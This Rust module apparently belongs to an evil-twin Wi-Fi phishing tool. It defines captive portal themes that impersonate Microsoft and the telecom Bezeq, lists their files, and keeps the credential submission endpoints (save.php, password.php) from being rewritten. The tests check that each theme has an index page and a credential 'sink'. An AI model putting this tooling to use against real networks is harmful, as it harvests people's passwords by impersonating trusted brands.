//! Portal themes and their fixed asset manifests

use std::fmt;

/// Rewrite behavior of a theme's virtual host
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum VhostFlavor {
    /// Everything except the submission endpoint rewrites to the index page
    Basic,
    /// Connectivity-check paths, submission endpoints, real files and
    /// static asset extensions pass through; everything else falls back to
    /// the index page
    Rich,
}

/// Selectable captive portal experience.
///
/// Each variant names a fixed set of files that must exist in the theme
/// source directory (and its `Dual/` twin for dual-radio runs).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortalTheme {
    Default,
    Microsoft,
    Bezeq,
}

impl PortalTheme {
    /// Directory under the theme root holding this theme's sources
    pub fn source_dir(&self) -> &'static str {
        match self {
            PortalTheme::Default => "Default",
            PortalTheme::Microsoft => "Microsoft",
            PortalTheme::Bezeq => "Bezeq",
        }
    }

    /// Files copied into the web root; the same manifest applies to the
    /// dual-experience twin.
    pub fn assets(&self) -> &'static [&'static str] {
        match self {
            PortalTheme::Default => &["index.html", "save.php"],
            PortalTheme::Microsoft => &[
                "index.html",
                "password.php",
                "save.php",
                "save2.php",
                "microsoft.svg",
            ],
            PortalTheme::Bezeq => &[
                "index.html",
                "save.php",
                "route_simple.png",
                "sn.png",
                "b.png",
            ],
        }
    }

    /// Credential submission endpoints that must never be rewritten
    pub fn submission_endpoints(&self) -> &'static [&'static str] {
        match self {
            PortalTheme::Default => &["save.php"],
            PortalTheme::Microsoft => &["save.php", "password.php", "save2.php"],
            PortalTheme::Bezeq => &["save.php"],
        }
    }

    /// Rewrite style of this theme's virtual host
    pub fn vhost_flavor(&self) -> VhostFlavor {
        match self {
            PortalTheme::Default => VhostFlavor::Basic,
            PortalTheme::Microsoft | PortalTheme::Bezeq => VhostFlavor::Rich,
        }
    }
}

impl fmt::Display for PortalTheme {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            PortalTheme::Default => "default",
            PortalTheme::Microsoft => "microsoft",
            PortalTheme::Bezeq => "bezeq",
        };
        write!(f, "{name}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_theme_serves_an_index_and_a_sink() {
        for theme in [PortalTheme::Default, PortalTheme::Microsoft, PortalTheme::Bezeq] {
            assert!(theme.assets().contains(&"index.html"));
            assert!(theme.assets().contains(&"save.php"));
            for endpoint in theme.submission_endpoints() {
                assert!(
                    theme.assets().contains(endpoint),
                    "{theme}: endpoint {endpoint} must be part of the manifest"
                );
            }
        }
    }

    #[test]
    fn flavors() {
        assert_eq!(PortalTheme::Default.vhost_flavor(), VhostFlavor::Basic);
        assert_eq!(PortalTheme::Microsoft.vhost_flavor(), VhostFlavor::Rich);
        assert_eq!(PortalTheme::Bezeq.vhost_flavor(), VhostFlavor::Rich);
    }
}
